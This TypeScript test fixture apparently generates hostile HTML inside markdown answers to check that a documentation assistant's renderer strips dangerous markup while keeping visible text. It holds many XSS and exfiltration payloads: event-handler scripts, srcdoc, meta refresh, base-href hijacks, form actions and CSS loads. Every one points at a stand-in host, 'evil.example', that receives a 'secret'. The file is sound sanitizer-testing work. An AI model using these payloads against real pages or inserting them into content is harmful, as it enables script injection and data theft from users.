/** Elements that answers may hold, that load something, that change how a page is parsed or shown, or that don't exist. */
export const elements: readonly string[] = [
  'a area audio base video track source picture img image embed object param applet iframe frame frameset portal fencedframe',
  'link meta style script noscript template slot title head body html bgsound',
  'svg math use animate foreignObject mtext annotation-xml feImage',
  'form input button select option optgroup textarea label fieldset output dialog menu keygen isindex',
  'table td tr caption col details summary p div span b h1 li br hr pre blockquote marquee font',
  'xmp listing plaintext noembed noframes canvas map docs-assistant x-y',
  'permission geolocation selectedcontent search hgroup ruby rt rp wbr data time progress meter datalist legend model nextid',
]
  .join(' ')
  .split(' ');

const EVIL = 'https://evil.example/?q=secret';
const RUN = 'globalThis.hacked=true';

/** Attributes that load, run, navigate or restyle on some element. Quoted to fit in a line of markdown. */
export const attributes: readonly string[] = [
  `src="${EVIL}"`,
  `href="${EVIL}"`,
  `srcset="${EVIL} 2x" sizes=1px`,
  `data="${EVIL}" type="text/html"`,
  `action="${EVIL}" method=post`,
  `formaction="${EVIL}"`,
  `poster="${EVIL}" autoplay`,
  `background="${EVIL}"`,
  `style="background: url(${EVIL}); display: none"`,
  `onload="${RUN}" onfocus="${RUN}" autofocus tabindex=0`,
  `onerror="${RUN}" src=x`,
  `xlink:href="${EVIL}#x"`,
  `srcdoc="<script>parent.hacked=true</script>"`,
  `http-equiv=refresh content="0;url=${EVIL}"`,
  `rel=stylesheet href="${EVIL}"`,
  `type=module src="${EVIL}" nonce=x`,
  `default kind=captions src="${EVIL}"`,
  `manifest="${EVIL}" code="${EVIL}" is=x-y ping="${EVIL}" usemap="#m" id=body name=body`,
];

/**
 * Elements whose content is no part of an answer if they are complete: scripts and styles. Others lose their tags, or show them, and
 * keep their content.
 */
const CODE = new Set(['script', 'style']);

/** Elements that do something only within certain others. */
const nested: readonly string[] = [
  `<video><track default kind=captions src="${EVIL}"></video>`,
  `<video controls><source src="${EVIL}"><track default src="${EVIL}"></video>`,
  `<audio><track default src="${EVIL}"><source src="${EVIL}"></audio>`,
  `<picture><source srcset="${EVIL}"><img src=x></picture>`,
  `<img src=x usemap="#m"><map name=m><area shape=default href="${EVIL}" ping="${EVIL}"></map>`,
  `<svg><image href="${EVIL}"/><use href="${EVIL}#x"/><feImage xlink:href="${EVIL}"/></svg>`,
  `<svg><script href="${EVIL}"></script></svg>`,
  `<svg><style>@import url(${EVIL});</style><a xlink:href="${EVIL}"><text>x</text></a></svg>`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><foreignObject><iframe src="${EVIL}"></iframe><base href="${EVIL}"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<math><annotation-xml encoding="text/html"><base href="${EVIL}"></annotation-xml></math>`,
  `<template><base href="${EVIL}"><script>${RUN}</script></template>`,
  `<template shadowrootmode=open><style>* { display: none }</style></template>`,
  `<noscript><style>p { color: red }</style><meta http-equiv=refresh content="0;url=${EVIL}"></noscript>`,
  `<object data="${EVIL}"><param name=movie value="${EVIL}"><embed src="${EVIL}"></object>`,
  `<form action="${EVIL}"><input autofocus onfocus="${RUN}"><button formaction="${EVIL}">x</button></form>`,
  `<select><option style="color: red"><script>${RUN}</script></select>`,
  `<table style="color: red" background="${EVIL}"><tr><td background="${EVIL}"><base href="${EVIL}"></table>`,
  `<frameset onload="${RUN}"><frame src="${EVIL}"></frameset>`,
  `<html><head><base href="${EVIL}"><link rel=preload as=image href="${EVIL}"></head><body onload="${RUN}"></body></html>`,
  `<script type=importmap>{"imports":{"x":"${EVIL}"}}</script>`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${EVIL}"]}]}</script>`,
  `<link rel="dns-prefetch preconnect modulepreload" href="${EVIL}"><meta name=referrer content=unsafe-url>`,
  `<svg><set attributeName=href to="${EVIL}"/><animateMotion><mpath href="${EVIL}#x"/></animateMotion></svg>`,
  `<svg><defs><filter id=f><feImage href="${EVIL}"/></filter></defs><rect filter="url(#f)" fill="url(${EVIL}#g)"/></svg>`,
  `<math href="${EVIL}"><maction actiontype=statusline xlink:href="${EVIL}">x</maction></math>`,
  `<details open ontoggle="${RUN}"><summary onclick="${RUN}">More</summary><base href="${EVIL}"></details>`,
  `<?xml-stylesheet href="${EVIL}"?><![CDATA[<base href="${EVIL}">]]>`,
  `<select><button><selectedcontent></selectedcontent></button><option><img src="${EVIL}" onerror="${RUN}"></select>`,
  `<table><colgroup><col background="${EVIL}"></colgroup><caption><form action="${EVIL}"><input name=q></form></caption></table>`,
  `<!--><base href="${EVIL}">-->`,
  `<title><base href="${EVIL}"></title><textarea><base href="${EVIL}"></textarea>`,
  `<b/style=color:red><b style=color:red><b STYLE\n=\n"color: red">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; report-uri ${EVIL}">`,
];

/** An answer, and words of it that have to be visible. */
export interface HostileHtml {
  readonly name: string;
  readonly markdown: string;
  readonly words: readonly string[];
}

/** One answer for each element and for each piece of nested ones. */
export const hostileHtml: readonly HostileHtml[] = [
  ...elements.map((element) =>
    join(
      `<${element}>`,
      attributes.map((attribute, index) => writePart(element, attribute, index)),
    ),
  ),
  ...nested.map((html, index) => join(html, [putAround(html, index)])),
];

/** Elements in an answer of {@link sampledHtml}. */
const SHARE = 9;

/** Answers of several elements each: what `npm test` and `npm run test:full` try. Each element has a few attributes, and each attribute is on several elements. */
export const sampledHtml: readonly HostileHtml[] = [
  ...chunk(elements).map((group, turn) =>
    join(
      group.map((element) => `<${element}>`).join(', '),
      attributes.map((attribute, index) => writePart(group[(index + turn) % group.length]!, attribute, index)),
    ),
  ),
  ...chunk(nested).map((group) =>
    join(
      group.join(', '),
      group.map((html, index) => putAround(html, index)),
    ),
  ),
];

function chunk(items: readonly string[]): string[][] {
  const starts = items.map((_, index) => index).filter((index) => index % SHARE === 0);
  return starts.map((start) => items.slice(start, start + SHARE));
}

type Part = Omit<HostileHtml, 'name'>;

function join(name: string, parts: readonly Part[]): HostileHtml {
  return { name, markdown: parts.map(({ markdown }) => markdown).join(''), words: parts.flatMap(({ words }) => words) };
}

/** An element, complete in a block of its own, and unclosed in a line and in an item of a list. */
function writePart(element: string, attribute: string, index: number): Part {
  // A closed element hides its content.
  const tag = `<${element}${element === 'details' ? ' open' : ''} ${attribute}>`;
  const { markdown, words } = putAround(tag, index, `${tag}Content ${index}.</${element}>`);
  return { markdown, words: CODE.has(element) ? words : [...words, `Content ${index}.`] };
}

/** HTML in a block, in a line, in an item and in a cell, and words before and after each. */
function putAround(html: string, index: number, block = html): Part {
  const words = ['Before', 'Line', 'Rest', 'Item', 'Next', 'Cell', 'Other', 'The end'].map(
    (word) => `${word} ${index}.`,
  );
  const [before, line, rest, item, next, cell, other, end] = words;
  const oneLine = html.replaceAll('\n', ' ');
  const inLine = `${line} ${html} ${rest}`;
  const list = `- ${item} ${oneLine}\n- ${next}`;
  const table = `| a | b |\n| - | - |\n| ${cell} ${oneLine} | ${other} |`;
  return { markdown: [before, block, inLine, list, table, end, ''].join('\n\n'), words };
}
